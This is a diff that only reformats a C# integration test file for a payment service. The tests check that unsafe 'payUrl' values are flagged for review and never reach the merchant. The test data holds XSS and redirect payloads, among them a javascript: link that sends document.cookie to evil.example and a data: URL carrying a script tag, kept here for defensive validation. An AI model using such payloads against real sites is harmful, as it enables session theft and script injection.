@@ -13,21 +13,24 @@ namespace Payments.IntegrationTests.HaiPay;
 /// </summary>
 public sealed class PayUrlTests(SharedAzurite azurite) : IClassFixture<SharedAzurite>
 {
-    public static TheoryData<string, bool> UnusableLinks() => new()
-    {
-        { "javascript:alert(document.domain)", true },
-        { "JavaScript:fetch('//evil.example/'+document.cookie)", true },
-        { "data:text/html,<script>alert(1)</script>", true },
-        { "/haipay/subscribe/4025071719404220010", true },
-        { "//evil.example/pay", true },
-        { "https:evil.example/pay", true },
-        { "http://127.0.0.1:9/pay", false },
-    };
+    public static TheoryData<string, bool> UnusableLinks() =>
+        new()
+        {
+            { "javascript:alert(document.domain)", true },
+            { "JavaScript:fetch('//evil.example/'+document.cookie)", true },
+            { "data:text/html,<script>alert(1)</script>", true },
+            { "/haipay/subscribe/4025071719404220010", true },
+            { "//evil.example/pay", true },
+            { "https:evil.example/pay", true },
+            { "http://127.0.0.1:9/pay", false },
+        };
 
     [Theory]
     [MemberData(nameof(UnusableLinks))]
     public async Task SubscriptionApply_UnsignedReplyWithAnUnusablePayUrl_NoLinkReachesTheMerchantAndPayUrlUnknown(
-        string payUrl, bool allowHttp)
+        string payUrl,
+        bool allowHttp
+    )
     {
         await using var system = await StartAsync(allowHttp);
         await system.SetHaiPayFaultsAsync(new { payUrl, notifications = false });
@@ -41,7 +44,9 @@ public sealed class PayUrlTests(SharedAzurite azurite) : IClassFixture<SharedAzu
     [Theory]
     [MemberData(nameof(UnusableLinks))]
     public async Task CollectionApply_SignedReplyWithAnUnusablePayUrl_NoLinkReachesTheMerchantAndPayUrlUnknown(
-        string payUrl, bool allowHttp)
+        string payUrl,
+        bool allowHttp
+    )
     {
         await using var system = await StartAsync(allowHttp);
         await system.SetHaiPayFaultsAsync(new { payUrl, notifications = false });
@@ -53,13 +58,22 @@ public sealed class PayUrlTests(SharedAzurite azurite) : IClassFixture<SharedAzu
     }
 
     /// <summary>Created, but for a person (<c>pay-url-unknown</c>): no link answered, none stored.</summary>
-    private static async Task AssertFlaggedWithoutALinkAsync(PaymentsSystem system, HttpResponseMessage response, string id)
+    private static async Task AssertFlaggedWithoutALinkAsync(
+        PaymentsSystem system,
+        HttpResponseMessage response,
+        string id
+    )
     {
         var created = await response.Content.ReadFromJsonAsync<JsonElement>();
         Assert.Equal(HttpStatusCode.Created, response.StatusCode);
-        Assert.Equal(("NeedsReview", "pay-url-unknown", JsonValueKind.Null),
-            (created.GetProperty("status").GetString(), created.GetProperty("reviewReason").GetString(),
-                created.GetProperty("payUrl").ValueKind));
+        Assert.Equal(
+            ("NeedsReview", "pay-url-unknown", JsonValueKind.Null),
+            (
+                created.GetProperty("status").GetString(),
+                created.GetProperty("reviewReason").GetString(),
+                created.GetProperty("payUrl").ValueKind
+            )
+        );
         await AssertNoLinkStoredAsync(system, id);
     }
 
@@ -73,21 +87,25 @@ public sealed class PayUrlTests(SharedAzurite azurite) : IClassFixture<SharedAzu
         var response = await CollectionFlow.CreateAsync(system, CollectionFlow.Request("hpy-link-https"));
 
         var created = await response.Content.ReadFromJsonAsync<JsonElement>();
-        Assert.Equal((HttpStatusCode.Created, "Pending", payUrl), (response.StatusCode,
-            created.GetProperty("status").GetString(), created.GetProperty("payUrl").GetString()));
+        Assert.Equal(
+            (HttpStatusCode.Created, "Pending", payUrl),
+            (response.StatusCode, created.GetProperty("status").GetString(), created.GetProperty("payUrl").GetString())
+        );
     }
 
     private Task<PaymentsSystem> StartAsync(bool allowHttp) =>
-        PaymentsSystem.StartAsync(azurite, new Dictionary<string, string?>
-        {
-            ["Links:AllowHttp"] = allowHttp ? "true" : "false",
-        });
+        PaymentsSystem.StartAsync(
+            azurite,
+            new Dictionary<string, string?> { ["Links:AllowHttp"] = allowHttp ? "true" : "false" }
+        );
 
     private static async Task AssertNoLinkStoredAsync(PaymentsSystem system, string id)
     {
         using var client = system.Server.CreateMerchantClient();
         var order = await client.GetFromJsonAsync<JsonElement>($"/api/orders/{Uri.EscapeDataString(id)}");
-        Assert.Equal((JsonValueKind.Null, ReviewReason.PayUrlUnknown.Name()),
-            (order.GetProperty("redirectUrl").ValueKind, order.GetProperty("reviewReason").GetString()));
+        Assert.Equal(
+            (JsonValueKind.Null, ReviewReason.PayUrlUnknown.Name()),
+            (order.GetProperty("redirectUrl").ValueKind, order.GetProperty("reviewReason").GetString())
+        );
     }
 }
